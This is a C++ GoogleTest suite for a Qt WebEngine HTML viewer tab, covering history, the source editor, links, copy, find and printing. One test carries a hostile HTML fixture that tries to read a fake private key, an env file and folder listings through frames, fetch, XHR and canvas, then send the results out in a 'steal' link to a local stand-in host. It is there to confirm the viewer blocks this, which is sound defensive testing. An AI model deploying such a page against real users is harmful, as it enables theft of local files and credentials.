// The "Html" tab on the real HTML view: pages, the source editor round trip, history file, links, copy,
// find and printing. Each view starts a WebEngine process, so the cases are few and each covers a theme.
#include <gtest/gtest.h>
#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QClipboard>
#include <QColor>
#include <QComboBox>
#include <QDialog>
#include <QFile>
#include <QFileInfo>
#include <QImage>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLineEdit>
#include <QMenu>
#include <QPrinter>
#include <QProcess>
#include <QSignalSpy>
#include <QTest>
#include <QUrl>
#include <QUuid>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineView>
#include "controls/htmlview.h"
#include "controls/tledit.h"
#include "tests/common/testenv.h"
#include "viewers/editortab.h"
#include "viewers/htmltab.h"

namespace {

class TestHtmlHost : public THtmlHost {
 public:
  QList<bool> viewHtmlEnabled;
  QStringList statusTexts, messages, okCancelAsked, saveQuestions, opened, overwriteAsked;
  QList<QPair<QString, QString>> shown;
  int activations = 0;
  bool answerOk = false, answerSave = false, answerOverwrite = false;
  QString openAnswer, pdfFile;
  int printFrom = 0, printTo = 0, printMax = 0;

  void setViewHtmlEnabled(bool on) override { viewHtmlEnabled << on; }
  void showStatusText(const QString &text) override { statusTexts << text; }
  QString currentFolder() const override { return testenv::root(); }
  void activateHtmlTab() override { ++activations; }
  void showFile(const QString &path, const QString &ext) override { shown << qMakePair(path, ext); }
  void openExternally(const QString &url) override { opened << url; }
  void showMessage(const QString &text) override { messages << text; }
  bool askOkCancel(const QString &text) override {
    okCancelAsked << text;
    return answerOk;
  }
  bool askSaveChanges(const QString &question) override {
    saveQuestions << question;
    return answerSave;
  }
  bool askOverwriteChangedFile(const QString &path) override {
    overwriteAsked << path;
    return answerOverwrite;
  }
  QString askOpenFile(const QString &, const QString &, const QString &) override { return openAnswer; }
  bool askPrint(QPrinter &printer, int maxPage) override {
    printMax = maxPage;
    printer.setOutputFormat(QPrinter::PdfFormat);
    printer.setOutputFileName(pdfFile);
    printer.setFromTo(printFrom, printTo);
    return true;
  }
};

class HtmlTab : public ::testing::Test {
 protected:
  void SetUp() override {
    dir = testenv::makeDir("html");
    QFile::remove(THtmlTab::historyFile());  // each case starts without a history file
    tab = std::make_unique<THtmlTab>(host);
    tab->resize(640, 480);
    tab->show();
    tab->LEdit2->SetQuiet(true);
  }
  void TearDown() override { tab.reset(); }

  // Shows the file as viewer dispatch does and waits for the page.
  bool show(const QString &path) {
    tab->ShowHtml(path);
    return waitPage(path);
  }
  bool waitPage(const QString &path) {
    return testenv::waitFor([&] { return !tab->HtmlView->isLoading() && tab->HtmlView->currentFile() == path; }, 20000);
  }
  QString pageText() {
    QString text;
    bool done = false;
    tab->HtmlView->engineView()->page()->toPlainText([&](const QString &t) {
      text = t;
      done = true;
    });
    testenv::waitFor([&] { return done; }, 10000);
    return text;
  }
  // Replaces the editor's text as typing would: undoable, and the text counts as changed.
  void type(const QString &text) {
    tab->LEdit2->selectAll();
    tab->LEdit2->replaceSelectedText(text);
  }
  // Runs a script beside the page's and waits for it: it sees the page's document (pages run no scripts of
  // their own unless allowed; the page's own world is QWebEngineScript::MainWorld).
  void runJs(const QString &js, quint32 world = QWebEngineScript::ApplicationWorld) { result(js, world); }
  QVariant result(const QString &js, quint32 world = QWebEngineScript::ApplicationWorld) {
    QVariant value;
    bool done = false;
    tab->HtmlView->engineView()->page()->runJavaScript(js, world, [&](const QVariant &v) {
      value = v;
      done = true;
    });
    testenv::waitFor([&] { return done; }, 10000);
    return value;
  }
  QString title() const { return tab->HtmlView->engineView()->page()->title(); }
  // A real mouse move to the middle of the element with the given id, and a click there if asked.
  void pointAt(const QString &id, bool click) {
    const QVariantList r = result(QString("(function(){var b=document.getElementById('%1').getBoundingClientRect();"
                                          "return [b.left+b.width/2,b.top+b.height/2];})()").arg(id)).toList();
    ASSERT_EQ(r.size(), 2) << id.toStdString();
    QWidget *surface = tab->HtmlView->engineView()->focusProxy();
    ASSERT_TRUE(surface);
    const QPoint p(int(r[0].toDouble()), int(r[1].toDouble()));
    QTest::mouseMove(surface, p);
    if (click) QTest::mouseClick(surface, Qt::LeftButton, {}, p);
  }

  QString dir;
  TestHtmlHost host;
  std::unique_ptr<THtmlTab> tab;
};

TEST_F(HtmlTab, ShowsPagesAndKeepsEachInTheHistoryOnceWrittenAndReadBack) {
  const QString a = testenv::writeFile(dir + "/a.htm", "<html><body><p>Alpha page</p></body></html>");
  const QString b = testenv::writeFile(dir + "/b.html", "<html><body><p>Beta page</p></body></html>");
  EXPECT_FALSE(tab->HistoryPanel->isVisible());
  EXPECT_FALSE(tab->Copy2->isEnabled());

  ASSERT_TRUE(show(a));
  EXPECT_FALSE(tab->editing());
  EXPECT_TRUE(tab->HistoryPanel->isVisible());
  EXPECT_EQ(host.viewHtmlEnabled.last(), false);
  EXPECT_GE(host.activations, 1);
  for (QAction *c : {tab->Copy2, tab->Find1, tab->SelectAll2, tab->Print1, tab->ShowImages1, tab->MenuItem1})
    EXPECT_TRUE(c->isEnabled()) << c->objectName().toStdString();
  EXPECT_TRUE(pageText().contains("Alpha page"));
  // A right click on the page opens the tab's pop-up, not the engine's own menu.
  QWidget *surface = tab->HtmlView->engineView()->focusProxy();
  ASSERT_TRUE(surface);
  QTest::mouseClick(surface, Qt::RightButton, {}, QPoint(40, 40));
  EXPECT_TRUE(testenv::waitFor([&] { return tab->HtmlMenu->isVisible(); }, 10000));
  tab->HtmlMenu->hide();
  ASSERT_TRUE(show(b));
  ASSERT_TRUE(show(a));  // shown twice: listed once
  EXPECT_EQ(tab->historyEntries(), QStringList({a, b}));
  EXPECT_EQ(tab->HistoryBox->count(), 2);
  // The box fills its panel, whatever the panel's width.
  tab->resize(900, 480);
  EXPECT_TRUE(testenv::waitFor([&] { return tab->HistoryBox->width() == tab->HistoryPanel->width(); }));

  // Nothing is written until Save History; then one entry a line, CR LF.
  const QString file = THtmlTab::historyFile();
  EXPECT_FALSE(QFileInfo::exists(file));
  tab->HistoryMenuPopup();
  EXPECT_FALSE(tab->OpenHist->isEnabled());
  tab->HtmlMenuPopup();
  EXPECT_FALSE(tab->OpenHistory1->isEnabled());
  tab->SaveHistoryClick();
  EXPECT_EQ(testenv::readFile(file), (a + "\r\n" + b + "\r\n").toUtf8());
  tab->HistoryMenuPopup();
  EXPECT_TRUE(tab->OpenHist->isEnabled());

  // Open History replaces the list with the file's lines in their order, duplicates and any line end kept.
  const QString gone = dir + "/gone.htm";
  const QString upper = testenv::writeFile(dir + "/UPPER.HTM", "<p>upper</p>");
  testenv::writeFile(file, (b + "\n" + gone + "\r\n" + a + "\r" + b + "\r\n" + upper).toUtf8());
  tab->OpenHistClick();
  EXPECT_EQ(tab->historyEntries(), QStringList({b, gone, a, b, upper}));

  // Opening the page's pop-up reads the file again but keeps the pages shown since.
  const QString c = testenv::writeFile(dir + "/c.htm", "<p>Gamma</p>");
  ASSERT_TRUE(show(c));
  tab->HtmlMenuPopup();
  EXPECT_TRUE(tab->OpenHistory1->isEnabled());
  EXPECT_EQ(tab->historyEntries(), QStringList({b, gone, a, b, upper, c}));

  // Picking an entry: a missing file is reported by name, an existing one is handed on with its extension.
  tab->HistoryBox->setCurrentIndex(1);
  emit tab->HistoryBox->activated(1);
  EXPECT_EQ(host.messages, QStringList({gone + " no longer exists"}));
  EXPECT_TRUE(host.shown.isEmpty());
  emit tab->HistoryBox->activated(2);
  emit tab->HistoryBox->activated(4);
  ASSERT_EQ(host.shown.size(), 2);
  EXPECT_EQ(host.shown[0], qMakePair(a, QString(".htm")));
  EXPECT_EQ(host.shown[1], qMakePair(upper, QString(".htm")));
}

TEST_F(HtmlTab, SourceEditRoundTripAsksBeforeDroppingChangesAndSavesSafely) {
  const QString page = testenv::writeFile(dir + "/page.htm", "<html><body><p>old words</p></body></html>\r\n");
  ASSERT_TRUE(show(page));

  // Alt+F2 from the page: the source of the page, the editor's commands on, the HTML commands off.
  tab->GoToHtml();
  ASSERT_TRUE(tab->editing());
  EXPECT_FALSE(tab->HtmlView->isVisible());
  EXPECT_TRUE(tab->SBar2->isVisible());
  EXPECT_FALSE(tab->HistoryPanel->isVisible());
  EXPECT_FALSE(tab->Copy2->isEnabled());
  EXPECT_EQ(host.viewHtmlEnabled.last(), true);
  EXPECT_EQ(tab->LEdit2->FileName(), page);
  EXPECT_EQ(tab->LEdit2->TextBytes(), testenv::readFile(page));
  EXPECT_TRUE(tab->Save1->isEnabled());
  EXPECT_TRUE(tab->ViewHtml1->isEnabled());
  EXPECT_EQ(tab->SBar2->panelText(0), "Html Filename: page.htm");
  EXPECT_EQ(tab->SBar2->panelText(1), "Line Count: 1");
  EXPECT_TRUE(tab->LEdit2->HtmlHighlighting());
  // Tags blue on white (Scintilla's colours are 0xBBGGRR), the text between them black.
  TLEdit *ed = tab->LEdit2;
  ed->SendScintilla(QsciScintillaBase::SCI_COLOURISE, 0UL, long(-1));
  auto fore = [&](int pos) { return ed->SendScintilla(QsciScintillaBase::SCI_STYLEGETFORE, ed->SendScintilla(QsciScintillaBase::SCI_GETSTYLEAT, pos)); };
  auto back = [&](int pos) { return ed->SendScintilla(QsciScintillaBase::SCI_STYLEGETBACK, ed->SendScintilla(QsciScintillaBase::SCI_GETSTYLEAT, pos)); };
  const int tagAt = 1, wordAt = int(QByteArray("<html><body><p>").size()) + 1;
  EXPECT_EQ(fore(tagAt), 0xFF0000);
  EXPECT_EQ(back(tagAt), 0xFFFFFF);
  EXPECT_EQ(fore(wordAt), 0x000000);
  EXPECT_EQ(back(wordAt), 0xFFFFFF);
  // Every style in the editor's monospace font at its size (a size the styles cannot take shows tiny text).
  for (int pos : {tagAt, wordAt}) {
    const long style = ed->SendScintilla(QsciScintillaBase::SCI_GETSTYLEAT, pos);
    EXPECT_EQ(ed->SendScintilla(QsciScintillaBase::SCI_STYLEGETSIZE, style), ed->Font().pointSize());
    EXPECT_GE(ed->Font().pointSize(), 8);
  }

  // Edit, save, Alt+F2: the saved page shows.
  type("<html><body><p>new words</p></body></html>\r\n");
  EXPECT_TRUE(tab->Undo1->isEnabled());
  tab->Save1->trigger();
  EXPECT_EQ(testenv::readFile(page), QByteArray("<html><body><p>new words</p></body></html>\r\n"));
  tab->GoToHtml();
  EXPECT_FALSE(tab->editing());
  ASSERT_TRUE(testenv::waitFor([&] { return !tab->HtmlView->isLoading() && pageText().contains("new words"); }, 20000));
  EXPECT_TRUE(host.saveQuestions.isEmpty());

  // An unsaved edit: the page shows the disk's version, and going back asks before reading the disk again.
  tab->GoToHtml();
  type("<p>unsaved words</p>");
  tab->GoToHtml();
  ASSERT_TRUE(testenv::waitFor([&] { return !tab->HtmlView->isLoading() && pageText().contains("new words"); }, 20000));
  EXPECT_TRUE(host.saveQuestions.isEmpty());
  host.answerSave = false;
  tab->GoToHtml();
  EXPECT_EQ(host.saveQuestions, QStringList({THtmlTab::ModifiedQuestion}));
  EXPECT_EQ(tab->LEdit2->TextBytes(), testenv::readFile(page));
  EXPECT_FALSE(tab->LEdit2->IsModified());

  // Another edit kept by "Yes" when the next page comes.
  type("<p>kept words</p>");
  host.answerSave = true;
  const QString other = testenv::writeFile(dir + "/other.htm", "<p>other</p>");
  ASSERT_TRUE(show(other));
  EXPECT_EQ(host.saveQuestions.size(), 2);
  EXPECT_EQ(testenv::readFile(page), QByteArray("<p>kept words</p>"));

  // A file changed behind the editor is not overwritten without asking; "No" leaves it as the other
  // program wrote it.
  tab->GoToHtml();
  ASSERT_EQ(tab->LEdit2->FileName(), other);
  type("<p>mine</p>");
  testenv::writeFile(other, "<p>theirs, longer than before</p>");
  host.answerOverwrite = false;
  tab->Save1->trigger();
  EXPECT_EQ(host.overwriteAsked, QStringList({other}));
  EXPECT_EQ(testenv::readFile(other), QByteArray("<p>theirs, longer than before</p>"));
  // Closing with the change still there asks; "No" lets it close.
  host.answerSave = false;
  EXPECT_TRUE(tab->QueryClose());
  EXPECT_EQ(host.saveQuestions.size(), 3);
}

TEST_F(HtmlTab, NewTextHasNothingToDisplayAndClearsResetTheEditor) {
  // From an empty page to the editor, a new text, Alt+F2: nothing to display, the editor stays.
  tab->GoToHtml();
  ASSERT_TRUE(tab->editing());
  tab->New1Click();
  EXPECT_FALSE(tab->Save1->isEnabled());
  EXPECT_FALSE(tab->ViewHtml1->isEnabled());
  type("<p>draft</p>");
  EXPECT_TRUE(tab->Save1->isEnabled());
  tab->GoToHtml();
  EXPECT_EQ(host.messages, QStringList({"There is nothing to display or\ryou have not saved the file"}));
  EXPECT_TRUE(tab->editing());

  // Open in the editor, then unload it: panels back to their labels, commands off, the page's file forgotten.
  const QString page = testenv::writeFile(dir + "/open.html", "<p>one</p>\n<p>two</p>\n");
  host.openAnswer = page;
  host.answerSave = false;
  tab->Open4Click();
  EXPECT_EQ(host.saveQuestions.size(), 1);  // the draft was asked about
  EXPECT_EQ(tab->LEdit2->FileName(), page);
  EXPECT_EQ(tab->SBar2->panelText(1), "Line Count: 2");
  tab->GoToHtml();
  ASSERT_TRUE(waitPage(page));
  EXPECT_EQ(tab->HtmlFile, page);
  tab->GoToHtml();
  tab->Clear5Click();
  EXPECT_TRUE(tab->HtmlFile.isEmpty());
  EXPECT_EQ(tab->LEdit2->length(), 0);
  EXPECT_FALSE(tab->LEdit2->HasFileName());
  EXPECT_EQ(tab->SBar2->panelText(0), "Editor Filename:");
  EXPECT_EQ(tab->SBar2->panelText(2), "Column: ");
  EXPECT_FALSE(tab->Clear5->isEnabled());
  EXPECT_FALSE(tab->Save1->isEnabled());
}

TEST_F(HtmlTab, WebAndMailLinksLeaveOnlyThroughFollowLink) {
  const QString local = testenv::writeFile(dir + "/local.htm", "<p>Local target</p>");
  const QString page = testenv::writeFile(dir + "/links.htm",
      "<html><body><a id=caps href=\"HTTP://example.invalid/caps\">caps</a> "
      "<a id=web href=\"http://example.invalid/web\">web</a> "
      "<a id=mail href=\"mailto:someone@example.invalid\">mail</a> "
      "<a id=local href=\"local.htm\">local</a></body></html>");
  ASSERT_TRUE(show(page));
  QStringList refused;
  QObject::connect(tab->HtmlView, &THtmlView::refused, [&](const QString &u) { refused << u; });

  // Clicked web and mail links are not followed inside the view (nor refused as if the view had tried).
  for (const char *id : {"caps", "web", "mail"})
    runJs(QString("document.getElementById('%1').click()").arg(id));
  runJs("document.getElementById('local').click()");
  ASSERT_TRUE(waitPage(page));  // the view still names the file it was given
  ASSERT_TRUE(testenv::waitFor([&] { return pageText().contains("Local target"); }, 20000));
  EXPECT_TRUE(refused.isEmpty()) << refused.join(' ').toStdString();
  EXPECT_TRUE(host.opened.isEmpty());

  bool handled = false;
  tab->HtmlViewHotSpotTargetClick(QString(), "HTTP://example.invalid/caps", handled);
  EXPECT_TRUE(handled);
  handled = false;
  tab->HtmlViewHotSpotTargetClick(QString(), "Mailto:x@example.invalid", handled);
  EXPECT_TRUE(handled);
  handled = false;
  tab->HtmlViewHotSpotTargetClick(QString(), "file:///tmp/x.htm", handled);
  EXPECT_FALSE(handled);

  // Follow Link opens the last web or mail link under the pointer, whatever the case of its scheme; a
  // local link is not handed out, and leaving a link keeps the last one.
  emit tab->HtmlView->OnHotSpotTargetCovered(QString(), "HTTP://example.invalid/caps");
  EXPECT_EQ(tab->LastLink, "HTTP://example.invalid/caps");
  EXPECT_EQ(host.statusTexts.last(), "HTTP://example.invalid/caps");
  tab->FollowLink1Click();
  emit tab->HtmlView->OnHotSpotTargetCovered(QString(), "file://" + local);
  tab->FollowLink1Click();
  emit tab->HtmlView->OnHotSpotTargetCovered(QString(), "http://example.invalid/web");
  emit tab->HtmlView->OnHotSpotTargetCovered(QString(), QString());
  EXPECT_EQ(host.statusTexts.last(), THtmlTab::ViewHint);
  tab->FollowLink1Click();
  emit tab->HtmlView->OnHotSpotTargetCovered(QString(), "mailto:someone@example.invalid");
  tab->FollowLink1Click();
  EXPECT_EQ(host.opened, QStringList({"HTTP://example.invalid/caps", "http://example.invalid/web",
                                      "mailto:someone@example.invalid"}));
}

// A page shown at a click tries every way to read files that are not itself (a key elsewhere, a note beside
// it, a settings file that parses as a script, a picture, a folder) and to send what it got out through
// Follow Link: nothing of them reaches the page or the link, and no folder is listed; the page's own frame
// and picture show. Scripts run only once allowed for the page shown, and stop at the next page however it
// comes (a link, a script, Back, a new file).
TEST_F(HtmlTab, PagesReadNoOtherFilesAndScriptsRunOnlyWhereAllowed) {
  const QString key = QUuid::createUuid().toString(QUuid::Id128);
  const QString near = QUuid::createUuid().toString(QUuid::Id128);
  const QString listed = QUuid::createUuid().toString(QUuid::Id128);
  const QString secrets = testenv::makeDir("secrets");
  testenv::writeFile(secrets + "/id_rsa", ("-----BEGIN KEY-----\n" + key + "\n-----END KEY-----\n").toUtf8());
  testenv::writeFile(secrets + "/settings.env", ("LEAK_ENV = \"" + key + "\"\n").toUtf8());
  testenv::writeFile(secrets + "/file-" + listed + ".txt", "listed only by name");
  QImage pixel(2, 2, QImage::Format_RGB32);
  pixel.fill(QColor(18, 52, 86));
  ASSERT_TRUE(pixel.save(secrets + "/pixel.png"));
  QImage own(40, 30, QImage::Format_RGB32);
  own.fill(Qt::green);
  ASSERT_TRUE(own.save(dir + "/own.png"));
  testenv::writeFile(dir + "/notes.txt", near.toUtf8());
  testenv::writeFile(dir + "/own.htm", "<p>Own frame text</p>");
  const QString far = QUrl::fromLocalFile(secrets).toString();
  // What the page reads it publishes at once (title, link), and again as the slower ways come back.
  const QString page = testenv::writeFile(dir + "/attack.htm", QString(R"(<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>attack</title><script src="FAR/settings.env"></script></head><body>
<a id="steal" href="http://127.0.0.1:9/steal?k=" style="display:block;font-size:40px">steal</a>
<img id="own" src="own.png"><iframe id="ownframe" src="own.htm"></iframe>
<iframe id="far" src="FAR/id_rsa"></iframe><iframe id="near" src="notes.txt"></iframe>
<object id="obj" data="FAR/id_rsa" type="text/plain"></object><embed id="emb" src="FAR/id_rsa" type="text/plain">
<iframe id="dir" src="FAR/"></iframe><iframe id="dir2" src="FAR"></iframe>
<iframe id="fr2" name="fr2" src="about:blank"></iframe><a id="tofile" href="FAR/id_rsa" target="fr2">key</a>
<img id="pix" src="FAR/pixel.png">
<script>
var got = {};
function frame(k, el) {
  try {
    var d = el.contentDocument || (el.getSVGDocument && el.getSVGDocument());
    got[k] = d ? d.documentElement.outerHTML : 'no document';
  } catch (e) { got[k] = 'denied'; }
}
function publish() {
  var all = JSON.stringify(got);
  document.title = all;
  document.getElementById('steal').href = 'http://127.0.0.1:9/steal?k=' + encodeURIComponent(all);
}
window.addEventListener('load', function() {
  got.env = typeof LEAK_ENV === 'undefined' ? 'none' : String(LEAK_ENV);
  ['far', 'near', 'obj', 'emb', 'dir', 'dir2'].forEach(function(k) { frame(k, document.getElementById(k)); });
  var c = document.createElement('canvas');
  c.width = 2; c.height = 2;
  var g = c.getContext('2d');
  try { g.drawImage(document.getElementById('pix'), 0, 0);
        got.pixels = Array.prototype.join.call(g.getImageData(0, 0, 1, 1).data, ','); } catch (e) { got.pixels = 'denied'; }
  try { got.dataUrl = c.toDataURL(); } catch (e) { got.dataUrl = 'denied'; }
  publish();
  fetch('FAR/id_rsa').then(function(r) { return r.text(); })
      .then(function(t) { got.fetch = t; }, function() { got.fetch = 'failed'; }).then(publish);
  var x = new XMLHttpRequest();
  x.onload = function() { got.xhr = x.responseText; publish(); };
  x.onerror = function() { got.xhr = 'failed'; publish(); };
  x.open('GET', 'FAR/id_rsa');
  x.send();
  var fr2 = document.getElementById('fr2');
  fr2.onload = function() { frame('link', fr2); publish(); };
  document.getElementById('tofile').click();
});
</script></body></html>)").replace("FAR", far).toUtf8());

  auto carriesSecret = [&](const QString &text) {
    return text.contains(key) || text.contains(near) || text.contains(listed) || text.contains("18,52,86");
  };
  EXPECT_FALSE(tab->AllowScripts1->isEnabled()) << "no page yet";
  ASSERT_TRUE(show(page));
  EXPECT_TRUE(tab->AllowScripts1->isEnabled());
  EXPECT_FALSE(tab->HtmlView->ScriptsAllowed());
  EXPECT_FALSE(carriesSecret(title())) << title().toStdString();
  EXPECT_FALSE(carriesSecret(result("document.documentElement.outerHTML").toString()));

  // No frame shows a folder's listing (the only place the listed file's name could appear); the page's own
  // frame and picture show.
  QSignalSpy finds(tab.get(), &THtmlTab::findFinished);
  tab->FindDialogFind(listed, false);
  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 1; }, 10000));
  EXPECT_FALSE(finds[0][0].toBool()) << "a folder listed in a frame";
  tab->FindDialogFind("Own frame text", true);
  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 2; }, 10000));
  EXPECT_TRUE(finds[1][0].toBool()) << "the page's own frame";
  EXPECT_EQ(result("document.getElementById('own').naturalWidth").toInt(), 40) << "the page's own picture";

  // Follow Link hands out the page's link as it hands out any, with nothing of the files in it.
  pointAt("steal", false);
  ASSERT_TRUE(testenv::waitFor([&] { return tab->LastLink.contains("/steal?k="); }, 10000)) << tab->LastLink.toStdString();
  tab->FollowLink1Click();
  ASSERT_EQ(host.opened.size(), 1);
  EXPECT_TRUE(host.opened[0].startsWith("http://127.0.0.1:9/steal?k=")) << host.opened[0].toStdString();
  EXPECT_FALSE(carriesSecret(QUrl::fromPercentEncoding(host.opened[0].toUtf8()))) << host.opened[0].toStdString();
  EXPECT_FALSE(carriesSecret(title())) << title().toStdString();

  // Scripts allowed for one page run there, and in no page that comes after it.
  const QString a = testenv::writeFile(dir + "/a.htm",
      "<html><head><title>A static</title><script>document.title = 'A ran';</script></head><body>"
      "<a id=\"tob\" href=\"b.htm\" style=\"display:block;font-size:40px\">to b</a></body></html>");
  const QString b = testenv::writeFile(dir + "/b.htm",
      "<html><head><title>B static</title><script>document.title = 'B ran';</script></head><body>B</body></html>");
  const QString c = testenv::writeFile(dir + "/c.htm",
      "<html><head><title>C static</title><script>document.title = 'C ran';</script></head><body>C</body></html>");
  auto shows = [&](const QString &file, const QString &shownTitle) {
    return testenv::waitFor([&] {
      return tab->HtmlView->engineView()->page()->url() == QUrl::fromLocalFile(file) && !tab->HtmlView->isLoading() &&
             title() == shownTitle;
    }, 20000);
  };
  auto allow = [&] {
    tab->HtmlMenuPopup();
    EXPECT_FALSE(tab->AllowScripts1->isChecked());
    tab->AllowScripts1->trigger();
    EXPECT_TRUE(tab->AllowScripts1->isChecked());
    EXPECT_TRUE(tab->HtmlView->ScriptsAllowed());
  };
  auto stopped = [&] {
    EXPECT_FALSE(tab->HtmlView->ScriptsAllowed());
    tab->HtmlMenuPopup();
    EXPECT_FALSE(tab->AllowScripts1->isChecked());
  };
  ASSERT_TRUE(show(a));
  ASSERT_TRUE(shows(a, "A static"));
  allow();
  ASSERT_TRUE(shows(a, "A ran"));
  EXPECT_EQ(tab->HtmlView->currentFile(), a);
  pointAt("tob", true);  // a link
  ASSERT_TRUE(shows(b, "B static")) << title().toStdString();
  stopped();
  tab->Back1Click();  // Back to the allowed page: without scripts now
  ASSERT_TRUE(shows(a, "A static")) << title().toStdString();
  stopped();
  allow();
  ASSERT_TRUE(shows(a, "A ran"));
  runJs("location.href = 'b.htm'", QWebEngineScript::MainWorld);  // a script
  ASSERT_TRUE(shows(b, "B static")) << title().toStdString();
  stopped();
  tab->Back1Click();
  ASSERT_TRUE(shows(a, "A static"));
  allow();
  ASSERT_TRUE(shows(a, "A ran"));
  ASSERT_TRUE(show(c));  // a new file
  ASSERT_TRUE(shows(c, "C static")) << title().toStdString();
  stopped();
  // Scripts or not, no folder is shown: not in a frame (the listing would name the files), not by a link.
  const QString d = testenv::writeFile(dir + "/d.htm", QString(
      "<html><head><title>D static</title><script>document.title = 'D ran';</script></head><body>"
      "<a id=\"todir\" href=\"FAR/\" style=\"display:block;font-size:40px\">folder</a>"
      "<iframe src=\"FAR/\"></iframe><iframe src=\"FAR\"></iframe></body></html>").replace("FAR", far).toUtf8());
  ASSERT_TRUE(show(d));
  allow();
  ASSERT_TRUE(shows(d, "D ran"));
  tab->FindDialogFind(listed, false);
  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 3; }, 10000));
  EXPECT_FALSE(finds[2][0].toBool()) << "a folder listed in a frame of a page with scripts";
  QStringList refused;
  QObject::connect(tab->HtmlView, &THtmlView::refused, [&](const QString &u) { refused << u; });
  pointAt("todir", true);
  ASSERT_TRUE(testenv::waitFor([&] { return !refused.isEmpty(); }, 10000));
  EXPECT_TRUE(refused.last().startsWith(far)) << refused.last().toStdString();
  EXPECT_TRUE(shows(d, "D ran")) << "the page stays, with its scripts";
  EXPECT_TRUE(tab->HtmlView->ScriptsAllowed());

  ASSERT_TRUE(show(c));
  allow();  // and off again by the menu
  ASSERT_TRUE(shows(c, "C ran"));
  tab->AllowScripts1->trigger();
  EXPECT_FALSE(tab->HtmlView->ScriptsAllowed());
  EXPECT_FALSE(tab->AllowScripts1->isChecked());
  tab->MenuItem1Click();
  EXPECT_FALSE(tab->AllowScripts1->isEnabled());
}

// The find dialog's label names its field: Alt+N goes to the field (a label without one shows the "&").
TEST_F(HtmlTab, FindDialogLabelIsTheFieldsMnemonic) {
  tab->Find1Click();
  auto *dialog = tab->findChild<QDialog *>("FindDialog");
  ASSERT_TRUE(dialog);
  auto *field = dialog->findChild<QLineEdit *>();
  auto *matchCase = dialog->findChild<QCheckBox *>();
  ASSERT_TRUE(field && matchCase);
  QApplication::setActiveWindow(dialog);
  ASSERT_TRUE(QTest::qWaitForWindowActive(dialog));
  matchCase->setFocus();
  ASSERT_TRUE(testenv::waitFor([&] { return matchCase->hasFocus(); }));
  QTest::keyClick(matchCase, Qt::Key_N, Qt::AltModifier);
  EXPECT_TRUE(testenv::waitFor([&] { return field->hasFocus(); }));
  dialog->hide();
}

TEST_F(HtmlTab, CopyAsksAboveTheLimitFindReportsTheEndAndPrintsPageRanges) {
  const QByteArray words = QByteArray("abcdefghij").repeated(4000);  // 40,000 characters
  const QString big = testenv::writeFile(dir + "/big.htm", "<html><body><p>" + words + "</p></body></html>");
  ASSERT_TRUE(show(big));
  QApplication::clipboard()->setText("before");
  // Selecting works on the focused page, as after the right click that opens the menu.
  QApplication::setActiveWindow(tab.get());
  tab->HtmlView->engineView()->setFocus();
  tab->SelectAll2Click();
  ASSERT_TRUE(testenv::waitFor([&] { return tab->HtmlView->SelLength() >= 40000; }, 10000));
  host.answerOk = false;
  tab->Copy2Click();
  EXPECT_EQ(host.okCancelAsked, QStringList({"Selection exceeds buffer size and may be truncated"}));
  EXPECT_EQ(QApplication::clipboard()->text(), "before");
  host.answerOk = true;
  tab->Copy2Click();
  EXPECT_TRUE(testenv::waitFor([&] { return QApplication::clipboard()->text().contains(QString::fromLatin1(words)); }, 10000));

  // Find across frames; only a search that finds nothing more says so.
  const QString inner = testenv::writeFile(dir + "/inner.htm", "<p>Needle in the frame</p>");
  const QString frames = testenv::writeFile(dir + "/frames.htm",
      "<html><frameset cols=\"50%,50%\"><frame src=\"inner.htm\"><frame src=\"big.htm\"></frameset></html>");
  Q_UNUSED(inner);
  ASSERT_TRUE(show(frames));
  QSignalSpy finds(tab.get(), &THtmlTab::findFinished);
  tab->FindDialogFind("Needle", true);
  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 1; }, 10000));
  EXPECT_TRUE(finds[0][0].toBool());
  tab->FindDialogFind("needle in THE", true);
  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 2; }, 10000));
  EXPECT_FALSE(finds[1][0].toBool());
  // Find Next pressed again before the search ended: only the last search reports.
  tab->FindDialogFind("Needle", true);
  tab->FindDialogFind("absent", true);
  ASSERT_TRUE(testenv::waitFor([&] { return finds.size() == 3; }, 10000));
  EXPECT_EQ(host.messages, QStringList({"No further occurances of \"needle in THE\"", "No further occurances of \"absent\""}))
      << host.messages.join("|").toStdString();

  // Printing: all pages without a range, only the chosen pages with one.
  const QString three = testenv::writeFile(dir + "/three.htm",
      "<html><body><div style=\"page-break-after:always\">FIRSTPAGE</div>"
      "<div style=\"page-break-after:always\">SECONDPAGE</div><div>THIRDPAGE</div></body></html>");
  ASSERT_TRUE(show(three));
  auto printed = [&](int from, int to) {
    host.pdfFile = dir + QString("/out%1-%2.pdf").arg(from).arg(to);
    host.printFrom = from;
    host.printTo = to;
    tab->Print1Click();
    if (!testenv::waitFor([&] { return !tab->isPrinting(); }, 20000)) return QString("still printing");
    QProcess p;
    p.start("pdftotext", {host.pdfFile, "-"});
    p.waitForFinished(20000);
    return QString::fromUtf8(p.readAllStandardOutput());
  };
  const QString all = printed(0, 0);
  EXPECT_EQ(host.printMax, 9999);
  EXPECT_TRUE(all.contains("FIRSTPAGE") && all.contains("SECONDPAGE") && all.contains("THIRDPAGE")) << all.toStdString();
  const QString second = printed(2, 2);
  EXPECT_TRUE(second.contains("SECONDPAGE")) << second.toStdString();
  EXPECT_FALSE(second.contains("FIRSTPAGE") || second.contains("THIRDPAGE")) << second.toStdString();
  EXPECT_EQ(host.messages.size(), 2);  // no "Printing failed."
}

}  // namespace
